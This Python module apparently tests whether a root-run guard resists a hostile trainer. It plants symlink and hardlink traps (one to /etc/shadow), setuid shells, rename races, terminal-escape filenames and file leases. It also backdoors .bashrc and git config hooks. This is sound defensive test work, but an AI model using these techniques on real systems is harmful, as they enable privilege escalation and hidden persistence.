"""What a trainer leaves in its storage, its code and its home for root to come upon. Each attack
gives back what it managed to leave."""

import fcntl
import json
import os
import pathlib
import pwd
import shutil
import threading
import time

from common import LOOT, OWN, STORAGE, VICTIM, each

# Names that root, or the guard, opens or makes below the storage.
OURS = ("kept", "torn", "checkpoints.json", "volume.json", "ledger.json", "account.json", "history",
        "history.jsonl", "agent.log", "metrics.jsonl", "formats.json")
RACES = 4000


def clear(path):
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path, ignore_errors=True)
    elif path.is_symlink() or path.exists():
        path.unlink()


def names_of_ours():
    there = [path.name for path in OWN.iterdir()]
    return [OWN / name for name in sorted({*OURS, *there})]


def puts_links_in_the_place_of_our_files():
    def plant(path):
        clear(path)
        path.symlink_to(VICTIM if path.suffix == "" else VICTIM / "secret")
    return each(plant, [*names_of_ours(), STORAGE / "DONE", STORAGE / "metrics.jsonl"])


def moves_our_folder_away():
    """Where the folder around it is not root's and sticky, who may write there may do that."""
    def move(path):
        os.rename(path, STORAGE / "moved")
        path.mkdir()
    return each(move, [OWN])


def writes_a_record_that_names_root():
    def write(path):
        path.unlink(missing_ok=True)
        path.write_text(json.dumps({"volume": "vol-1", "user": "root", "uid": 0, "gid": 0}))
    return each(write, [OWN / "volume.json"])


def puts_links_in_the_place_of_folders():
    """To root's; that of the checkpoints to one of the same file system, where there is one: what
    root moves out of a folder, it cannot move from one file system to another."""
    beside = STORAGE / "roots"
    def plant(name):
        clear(STORAGE / name)
        there = beside if name == "checkpoints" and beside.is_dir() else VICTIM
        (STORAGE / name).symlink_to(there)
    return each(plant, ["checkpoints", "log", "result"])


def makes_its_log_a_link():
    def plant(path):
        clear(path.parent)
        path.parent.mkdir()
        path.symlink_to(VICTIM / "secret")
    return each(plant, [STORAGE / "log/trainer.log"])


def makes_its_home_a_link():
    """All of its storage; of a mount point that is for nobody to do."""
    def plant(home):
        os.rename(home, home.with_name("moved-home"))
        home.symlink_to(VICTIM)
    return each(plant, [STORAGE])


def leaves_setuid_checkpoints():
    """Copies of them must not be executables that act as somebody else."""
    clear(STORAGE / "checkpoints")
    (STORAGE / "checkpoints").mkdir()
    def leave(name):
        path = STORAGE / "checkpoints" / name
        shutil.copy("/usr/bin/id", path)
        path.chmod(0o6755)
    return each(leave, ["one.bin", "two.bin"])


def leaves_a_setuid_shell():
    """A root that copies it, or gives it away, would leave a way in."""
    def leave(path):
        shutil.copy("/bin/sh", path)
        path.chmod(0o4755)
    return each(leave, [STORAGE / "checkpoints/way-in.bin", OWN / "way-in", STORAGE / "way-in"])


def gives_second_names_to_others_files():
    """With fs.protected_hardlinks=0 these are made, and must be left as they are."""
    def plant(target):
        os.link(target, STORAGE / "checkpoints" / f"{target.name}.bin")
    return each(plant, [VICTIM / "secret", VICTIM / "readable", pathlib.Path("/etc/shadow")])


def puts_pipes_in_the_place_of_files():
    def plant(path):
        clear(path)
        os.mkfifo(path)
    return each(plant, [OWN / "checkpoints.json", OWN / "agent.log", STORAGE / "DONE",
                        STORAGE / "checkpoints/fifo.bin", STORAGE / "checkpoints/sock.bin"])


def leaves_four_terabytes_of_nothing():
    (STORAGE / "checkpoints/step-000000000999").mkdir(parents=True, exist_ok=True)
    def leave(name):
        with open(STORAGE / "checkpoints" / name, "wb") as file:
            file.truncate(4 << 40)
    return each(leave, ["step-000000000999/manifest.json", "sparse.safetensors"])


def leaves_a_header_of_many_megabytes():
    header = b"[" * (24 << 20)
    def leave(path):
        path.write_bytes(len(header).to_bytes(8, "little") + header)
    return each(leave, [STORAGE / "checkpoints/header.safetensors"])


def leaves_names_that_terminals_obey():
    def leave(name):
        with open(os.path.join(os.fsencode(STORAGE / "checkpoints"), name), "wb") as file:
            file.write(b"x")
    return each(leave, [b"new\nline.bin", b"\x1b]0;owned\x07.bin", b"\xff\xfe.bin",
                        b"\x1b[2J.bin"])


def changes_names_while_root_works():
    """A real folder and a link to somebody else's change places, for a bounded number of times.
    Where the storage's own folder is root's, that is one level lower."""
    turns = []
    own = os.access(STORAGE, os.W_OK)
    place = STORAGE if own else STORAGE / "checkpoints"
    def race(name):
        real, link = place / f"{name}.real", place / f"{name}.link"
        clear(real)
        clear(link)
        real.mkdir()
        (real / "readable").write_text("mine, of a name that the other has, too")
        link.symlink_to(VICTIM)
        for turn in range(RACES):
            time.sleep(0.001)  # the guard works beside it
            try:
                os.rename(*(((real, place / name), (place / name, real)) if turn % 2 else
                            ((link, place / name), (place / name, link)))[turn // 2 % 2])
                turns.append(turn)
            except OSError:
                pass
    if own:
        clear(STORAGE / "checkpoints")
    names = ("checkpoints", "result") if own else ("step-000000000999", "one.bin")
    threads = [threading.Thread(target=race, args=(name,)) for name in names]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    return f"{len(turns)} turns" if turns else ""


def leases_and_locks_its_files():
    """Who opens a leased file waits for its holder; the holders here end with the trainer."""
    def hold(path):
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    return each(hold, [path for path in STORAGE.rglob("*") if path.is_file()][:50])


def leaves_programs_in_its_home_and_its_code():
    """Whoever runs one of them writes down who it is."""
    ran = LOOT / "ran"
    ran.mkdir(exist_ok=True)
    ran.chmod(0o777)
    program = LOOT / "program"
    program.write_text(f"#!/bin/sh\n: >{ran}/$(/usr/bin/id -u)\n")
    program.chmod(0o755)
    config = (f"[core]\n\tfsmonitor = {program}\n\thooksPath = {LOOT}\n\tsshCommand = {program}\n"
              f"[credential]\n\thelper = {program}\n[safe]\n\tdirectory = *\n")
    homes = [pathlib.Path(os.path.expanduser("~")),
             pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir)]  # $HOME may be in the storage
    git = pathlib.Path(".git")
    left = [each(lambda path: path.write_text(f". {program}\n"),
                 [home / name for home in homes for name in (
                     ".profile", ".bashrc", ".bash_profile", ".ssh/rc", ".netrc")]),
            each(lambda path: path.write_text(config), [git / "config"] + [
                home / name for home in homes for name in (".gitconfig", ".config/git/config")]),
            each(lambda name: (git / "hooks" / name).symlink_to(program),
                 ["post-checkout", "post-merge", "reference-transaction", "pre-commit"]),
            each(lambda path: path.write_text(f"{LOOT}\n"), [git / "commondir"])]
    return " ".join(left).strip()
